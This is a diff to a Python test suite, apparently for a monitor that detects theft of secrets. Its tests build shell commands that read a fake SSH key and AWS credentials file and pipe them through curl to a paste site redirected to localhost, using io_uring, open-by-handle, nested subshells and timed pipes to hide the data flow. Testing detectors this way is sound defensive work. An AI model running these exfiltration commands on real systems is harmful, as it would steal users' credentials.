@@ -19,6 +19,7 @@ from test_scenarios import run_attack, wait_for_evidence
 WAIT_S = 20.0
 PASTE = "paste.ee"
 UPLOAD = f"curl -sk --resolve {PASTE}:8443:127.0.0.1 -T {{}} https://{PASTE}:8443/"
+PIPE_UPLOAD = f"curl -sk --resolve {PASTE}:8443:127.0.0.1 --data-binary @- https://{PASTE}:8443/"
 
 
 def upload_scenario(name, shell, **extra):
@@ -184,8 +185,7 @@ def handle_open(c_tool):
 def test_open_by_handle_at(monitor, standin, fake_home, tmp_path, handle_open):
     # No path on the open at all: the record names the file from the opened file itself.
     key = key_of(fake_home)
-    shell = (f"{handle_open} {key} | curl -sk --resolve {PASTE}:8443:127.0.0.1 "
-             f"--data-binary @- https://{PASTE}:8443/")
+    shell = f"{handle_open} {key} | {PIPE_UPLOAD}"
     attack(monitor, standin, fake_home, tmp_path, "open-by-handle", shell)
     records = monitor.records()
     found = opened(records, key, "handle_open")
@@ -259,8 +259,7 @@ def test_io_uring_open_and_reads(monitor, standin, fake_home, tmp_path, uring_re
     # bytes go on to a paste site through a pipe.
     key = key_of(fake_home)
     aws = fake_home.files[".aws/credentials"]
-    shell = (f"{uring_read} {key} {aws} | curl -sk --resolve {PASTE}:8443:127.0.0.1 "
-             f"--data-binary @- https://{PASTE}:8443/")
+    shell = f"{uring_read} {key} {aws} | {PIPE_UPLOAD}"
     attack(monitor, standin, fake_home, tmp_path, "io-uring", shell)
     records = monitor.records()
     for path in (key, aws):
@@ -343,8 +342,7 @@ def test_command_substitution_at_depth_three(monitor, standin, fake_home, tmp_pa
     # The key's base64 lives only in a shell variable, two subshells and a substitution deep,
     # and reaches curl on stdin through a here-string.
     key = key_of(fake_home)
-    curl = f"curl -sk --resolve {PASTE}:8443:127.0.0.1 --data-binary @- https://{PASTE}:8443/"
-    shell = f'( ( x=$( ( cat {key} | base64 -w0 ) ); {curl} <<< "$x" ) )'
+    shell = f'( ( x=$( ( cat {key} | base64 -w0 ) ); {PIPE_UPLOAD} <<< "$x" ) )'
     dataflow_attack(monitor, standin, fake_home, tmp_path, "substitution-depth-3", shell)
     assert_no_secret(monitor, key)
 
@@ -418,26 +416,28 @@ def test_report_written_before_the_key_read_is_silent(monitor, standin, fake_hom
                f"{script} && " + UPLOAD.format(report))
 
 
+def banner_then_key_into_paste(key, then):
+    """A script that writes a banner into a pipe to curl, reads `key` (as `d`) 2.5 s later, then
+    runs the Python statement `then`."""
+    script = ("python3 -c 'import sys,time,hashlib,base64; sys.stdout.write(\"starting build 1234\\n\"); "
+              "sys.stdout.flush(); time.sleep(2.5); d=open(sys.argv[1],\"rb\").read(); "
+              f"{then}; time.sleep(0.5)' {key}")
+    return f"{script} | {PIPE_UPLOAD}"
+
+
 def test_pipe_written_before_the_key_read_is_silent(monitor, standin, fake_home, tmp_path):
     # A pipe's writes carry what the writer held at each write: a banner written two seconds
     # before the key read holds nothing. Its attack twin writes the key after.
     key = key_of(fake_home)
-    curl = f"curl -sk --resolve {PASTE}:8443:127.0.0.1 --data-binary @- https://{PASTE}:8443/"
-    script = ("python3 -c 'import sys,time,hashlib; sys.stdout.write(\"starting build 1234\\n\"); "
-              "sys.stdout.flush(); time.sleep(2.5); d=open(sys.argv[1],\"rb\").read(); "
-              "hashlib.sha256(d).hexdigest(); time.sleep(0.5)' "
-              f"{key}")
-    silent_run(monitor, standin, fake_home, tmp_path, "pipe-before-key", f"{script} | {curl}")
+    silent_run(monitor, standin, fake_home, tmp_path, "pipe-before-key",
+               banner_then_key_into_paste(key, "hashlib.sha256(d).hexdigest()"))
 
 
 def test_pipe_written_after_the_key_read(monitor, standin, fake_home, tmp_path):
     key = key_of(fake_home)
-    curl = f"curl -sk --resolve {PASTE}:8443:127.0.0.1 --data-binary @- https://{PASTE}:8443/"
-    script = ("python3 -c 'import sys,time,base64; sys.stdout.write(\"starting build 1234\\n\"); "
-              "sys.stdout.flush(); time.sleep(2.5); d=open(sys.argv[1],\"rb\").read(); "
-              "sys.stdout.write(base64.b64encode(d).decode()); sys.stdout.flush(); time.sleep(0.5)' "
-              f"{key}")
-    dataflow_attack(monitor, standin, fake_home, tmp_path, "pipe-after-key", f"{script} | {curl}")
+    dataflow_attack(monitor, standin, fake_home, tmp_path, "pipe-after-key",
+                    banner_then_key_into_paste(key, "sys.stdout.write(base64.b64encode(d).decode()); "
+                                                    "sys.stdout.flush()"))
     assert_no_secret(monitor, key)
 
 
